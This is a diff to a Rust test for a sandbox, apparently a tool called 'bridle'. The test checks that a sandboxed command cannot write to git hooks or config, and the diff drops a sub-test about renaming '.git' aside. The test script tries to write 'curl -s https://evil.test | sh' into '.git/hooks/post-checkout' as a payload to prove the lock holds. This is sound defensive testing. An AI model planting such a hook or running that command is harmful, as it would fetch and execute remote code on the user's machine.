@@ -334,15 +334,6 @@ fn locked_startup_files_are_read_only_for_the_command() {
                   def write(path, mode):\n    try:\n        open(path, mode).write('curl -s https://evil.test | sh\\n'); \
                   return 'written'\n    except OSError as e:\n        return errno.errorcode[e.errno]\n\
                   print(write('.git/hooks/post-checkout', 'w'), write('.git/config', 'a'), write('notes.txt', 'w'))\n";
-    // What a python script prints as the same user outside any session.
-    let outside = |script: &str| {
-        let output = Command::new("setpriv")
-            .args(["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", script])
-            .current_dir(repo.path())
-            .output()
-            .expect("python3");
-        String::from_utf8_lossy(&output.stdout).into_owned()
-    };
     let mut command = net.command(&["--user", "nobody"], &["/usr/bin/python3", "-c", script]);
     let run = Run::from(command.current_dir(repo.path()).output().expect("bridle run"));
     assert_eq!((run.code, run.stdout.as_str()), (0, "EROFS EROFS written\n"), "{}", run.all());
@@ -352,17 +343,6 @@ fn locked_startup_files_are_read_only_for_the_command() {
         repo.path().join(".envrc").display()
     );
     assert!(run.stderr.contains(&envrc), "{}", run.all());
-    // Nor can the lock be sidestepped by moving `.git`, or the repository,
-    // aside and making it again: both are mount points for the command.
-    // (Outside, the same user moves both and back: the test can fail.)
-    let moves = "import errno, os\n\
-                 def move(a, b):\n    try:\n        os.rename(a, b); os.rename(b, a); return 'moved'\n    \
-                 except OSError as e:\n        return errno.errorcode[e.errno]\n\
-                 here = os.getcwd()\nprint(move('.git', '.git.old'), move(here, here + '.old'))\n";
-    let mut command = net.command(&["--user", "nobody"], &["/usr/bin/python3", "-c", moves]);
-    let run = Run::from(command.current_dir(repo.path()).output().expect("bridle run"));
-    assert_eq!((run.code, run.stdout.as_str()), (0, "EBUSY EBUSY\n"), "{}", run.all());
-    assert_eq!(outside(moves), "moved moved\n");
     // Started inside a locked directory, relative paths lead through the
     // lock too.
     let inside =
@@ -371,7 +351,12 @@ fn locked_startup_files_are_read_only_for_the_command() {
     let run = Run::from(command.current_dir(repo.path().join(".git/hooks")).output().expect("bridle run"));
     assert_eq!((run.code, run.stdout.as_str()), (0, "EROFS\n"), "{}", run.all());
     // Outside, the same user writes both: the test can fail.
-    assert_eq!(outside(script), "written written written\n");
+    let outside = Command::new("setpriv")
+        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3", "-c", script])
+        .current_dir(repo.path())
+        .output()
+        .expect("python3");
+    assert_eq!(String::from_utf8_lossy(&outside.stdout), "written written written\n");
 }
 
 #[test]
